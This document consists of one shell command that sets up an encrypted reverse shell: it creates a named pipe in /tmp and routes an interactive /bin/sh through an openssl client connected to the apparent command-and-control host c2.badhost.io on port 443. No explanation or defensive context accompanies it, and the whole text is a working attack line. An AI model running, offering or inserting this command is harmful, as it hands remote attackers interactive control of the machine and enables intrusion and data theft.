mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect c2.badhost.io:443 > /tmp/s; rm /tmp/s
